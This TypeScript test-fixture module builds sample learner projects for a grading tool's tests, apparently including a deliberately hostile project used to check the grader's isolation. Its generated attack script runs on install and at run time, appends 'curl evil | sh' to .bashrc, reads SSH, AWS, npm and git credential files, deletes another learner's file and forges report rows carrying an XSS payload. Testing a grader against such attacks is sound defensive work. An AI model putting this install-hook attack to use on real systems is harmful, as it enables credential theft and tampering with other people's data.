// A class of learners' projects as an instructor gets them, for the class-grading tests (issue #44's
// class of five, and issue #57's two that reach nothing): a finished Day 2 TypeScript project
// (day-2-v3's sources, installed), which has outgrown Day 2 v1's no-tools answer; the same with one
// bug (each tool_result in its own user message); a standard-library Python project; one whose
// sources do not parse; one whose echo tool answers `hi`, the word the pages show, whatever it is
// asked; one that crashes at start (it reads a settings file that is not there); and one that
// imports a file it never added, so it does not bundle. Each says how it starts in
// agent-code.check.json.
import { cpSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { stageDir } from "../lib/command.ts";
import { AGENT_CODE } from "./python-agent-code.ts";

const ONE_MESSAGE = 'messages.push({ role: "user", content: results });';
const EACH_ITS_OWN = 'for (const r of results) messages.push({ role: "user", content: [r] });';
const ECHO = 'return String(args.text ?? "");';
const ECHO_LEARNT = 'return "hi";';

// A stage's sources as a learner's project, with one edit to a file of src/ (agent.ts unless
// `file` names another) when given.
export function typescriptProject(
  dir: string,
  options: { stage: string; installed: boolean; edit?: [string, string]; file?: string },
): void {
  const { installed, edit } = options;
  const STAGE = stageDir(options.stage);
  cpSync(join(STAGE, "src"), join(dir, "src"), { recursive: true });
  cpSync(join(STAGE, "package.json"), join(dir, "package.json"));
  writeFileSync(join(dir, "agent-code.check.json"), '{ "language": "typescript" }\n');
  // Installed: the stage's own packages stand in for `pnpm install`, each linked into a
  // node_modules of the project's own, as pnpm makes one, so that the bundle the check writes
  // under node_modules/.cache is this project's: projects checked at once never share it.
  if (installed) {
    mkdirSync(join(dir, "node_modules"), { recursive: true });
    for (const name of readdirSync(join(STAGE, "node_modules"))) {
      if (name === ".cache") continue;
      symlinkSync(join(STAGE, "node_modules", name), join(dir, "node_modules", name), "dir");
    }
  }
  if (edit !== undefined) {
    const name = options.file ?? "agent.ts";
    const file = join(dir, "src", name);
    const text = readFileSync(file, "utf8");
    if (text.split(edit[0]).length !== 2) throw new Error(`${name} must hold once: ${edit[0]}`);
    writeFileSync(
      file,
      text.replace(edit[0], () => edit[1]),
    );
  }
}

export function writeClass(dir: string, options: { python: boolean }): void {
  const stage = "day-2-v3";
  typescriptProject(join(dir, "ada"), { stage, installed: true });
  typescriptProject(join(dir, "brian"), {
    stage,
    installed: true,
    edit: [ONE_MESSAGE, EACH_ITS_OWN],
  });
  // A `(` too many: esbuild stops at src/agent.ts.
  typescriptProject(join(dir, "dana"), {
    stage,
    installed: true,
    edit: [ONE_MESSAGE, `${ONE_MESSAGE}(`],
  });
  typescriptProject(join(dir, "eve"), {
    stage,
    installed: true,
    file: "tools.ts",
    edit: [ECHO, ECHO_LEARNT],
  });
  if (options.python) pythonProject(join(dir, "chen"));
  crashingProject(join(dir, "fay"));
  unbundledProject(join(dir, "gus"));
}

const TOOLS_IMPORT = 'import { defaultTools, type ToolRegistry } from "./tools.ts";';

// Reads a settings file before it does anything, and has none: every run ends in the same throw.
export function crashingProject(dir: string): void {
  typescriptProject(dir, {
    stage: "day-2-v3",
    installed: true,
    file: "cli.ts",
    edit: [
      TOOLS_IMPORT,
      `${TOOLS_IMPORT}\nimport { readFileSync } from "node:fs";\n\nconst settings = JSON.parse(readFileSync("agent-code.settings.json", "utf8"));`,
    ],
  });
}

// system_date moved to a file of its own, which was never added: tools.ts imports
// ./system-date.ts, which is not there.
export function unbundledProject(dir: string): void {
  typescriptProject(dir, { stage: "day-2-v3", installed: true });
  const file = join(dir, "src", "tools.ts");
  const text = readFileSync(file, "utf8");
  const from = text.indexOf("// The model has no clock");
  const to = text.indexOf("export class ToolRegistry");
  if (from < 0 || to < from) throw new Error("tools.ts must hold systemDate before ToolRegistry");
  writeFileSync(
    file,
    text
      .slice(0, from)
      .replace(
        'from "./model.ts";\n',
        'from "./model.ts";\nimport { systemDate } from "./system-date.ts";\n',
      ) + text.slice(to),
  );
}

// The standard-library Python agent-code, saying how it starts.
export function pythonProject(dir: string): void {
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, "agent_code.py"), AGENT_CODE);
  writeFileSync(
    join(dir, "agent-code.check.json"),
    '{ "command": ["python3", "agent_code.py"] }\n',
  );
}

// Where a hostile project aims (issue #57): the grader's home, a temporary folder of the grader's,
// another learner's folder and one of its files, the grades folder, the Actions step summary, the
// control URL-less address of another check's fake server, and its own folder for what it learnt.
export interface HostileTargets {
  home: string;
  tmp: string;
  other: string;
  otherFile: string;
  grades: string;
  summary: string;
  server: string;
  own: string;
}

// What the hostile project prints as its error: a forged row of the class table, with markup.
export const FORGED_ROW =
  "| forged | day-5-v5 | 16/16 | <img src=x onerror=alert(1)> [more](http://evil) |";

// A learner's project that attacks the grader, at install (its postinstall) and at every run of
// its src/cli.ts: it writes into the home (a marker, a line in .bashrc), the other learner's folder
// (a marker, and deletes their file), the grades (a marker, 430 lines onto the other's report)
// and the step summary (430 forged rows); reads the home's credentials and the temporary folder;
// and asks the other fake server and its own for their recorded requests, a reset and an empty
// script. It prints what it learnt on stderr after FORGED_ROW, keeps it in loot-<phase>.json in
// its folder, and exits 1. Installed from its lock file: it has no packages.
export function hostileProject(dir: string, targets: HostileTargets): void {
  mkdirSync(join(dir, "src"), { recursive: true });
  writeFileSync(
    join(dir, "package.json"),
    `${JSON.stringify({ name: "hostile", private: true, type: "module", scripts: { postinstall: "node src/postinstall.mjs" } }, null, 2)}\n`,
  );
  writeFileSync(
    join(dir, "pnpm-lock.yaml"),
    "lockfileVersion: '9.0'\n\nsettings:\n  autoInstallPeers: true\n  excludeLinksFromLockfile: false\n\nimporters:\n\n  .: {}\n",
  );
  writeFileSync(join(dir, "agent-code.check.json"), '{ "language": "typescript" }\n');
  writeFileSync(join(dir, "src", "attack.mjs"), attackSource(targets));
  writeFileSync(
    join(dir, "src", "postinstall.mjs"),
    'import { attack } from "./attack.mjs";\n\nawait attack("install");\n',
  );
  writeFileSync(
    join(dir, "src", "cli.ts"),
    `import { attack } from "./attack.mjs";\n\nawait attack("run");\nprocess.exit(1);\n`,
  );
}

function attackSource(targets: HostileTargets): string {
  return `import { appendFileSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";

const T = ${JSON.stringify(targets)};
const SECRETS = [".git-credentials", ".npmrc", ".ssh/id_ed25519", ".aws/credentials"];

function attempt(action) {
  try {
    return action() ?? "done";
  } catch (error) {
    return \`failed: \${error.code ?? error.message}\`;
  }
}

async function answer(url, init) {
  try {
    const response = await fetch(url, init);
    return \`\${response.status} \${await response.text()}\`;
  } catch (error) {
    return \`failed: \${error.cause?.code ?? error.message}\`;
  }
}

export async function attack(phase) {
  const marker = \`pwned-\${phase}-\${process.pid}.txt\`;
  const loot = { phase, wrote: {}, read: {}, fetched: {} };
  const write = (name, action) => {
    loot.wrote[name] = attempt(action);
  };
  write("home", () => writeFileSync(join(T.home, marker), "pwned"));
  write("bashrc", () => appendFileSync(join(T.home, ".bashrc"), "curl evil | sh\\n"));
  write("other", () => writeFileSync(join(T.other, marker), "pwned"));
  write("delete", () => rmSync(T.otherFile));
  write("tmp", () => writeFileSync(join(T.tmp, marker), "pwned"));
  write("grades", () => {
    mkdirSync(join(T.grades, "reports"), { recursive: true });
    writeFileSync(join(T.grades, marker), "pwned");
  });
  for (const name of ["ada.md", "ada.json"]) {
    write(name, () => appendFileSync(join(T.grades, "reports", name), "forged\\n".repeat(430)));
  }
  write("summary", () => appendFileSync(T.summary, ${JSON.stringify(`${FORGED_ROW}\n`)}.repeat(430)));
  for (const name of SECRETS) loot.read[name] = attempt(() => readFileSync(join(T.home, name), "utf8"));
  for (const name of [].concat(attempt(() => readdirSync(T.tmp)))) {
    loot.read[\`tmp/\${name}\`] = attempt(() => readFileSync(join(T.tmp, name), "utf8"));
  }
  for (const url of [T.server, process.env.ANTHROPIC_BASE_URL]) {
    if (url === undefined) continue;
    loot.fetched[url] = {
      requests: await answer(\`\${url}/_fake/requests\`),
      reset: await answer(\`\${url}/_fake/reset\`, { method: "POST" }),
      script: await answer(\`\${url}/_fake/script\`, { method: "POST", body: "[]" }),
    };
  }
  const text = JSON.stringify(loot);
  process.stderr.write(${JSON.stringify(`error: ${FORGED_ROW}\n`)} + text + "\\n");
  attempt(() => appendFileSync(join(T.own, \`loot-\${phase}.json\`), \`\${text}\\n\`));
}
`;
}
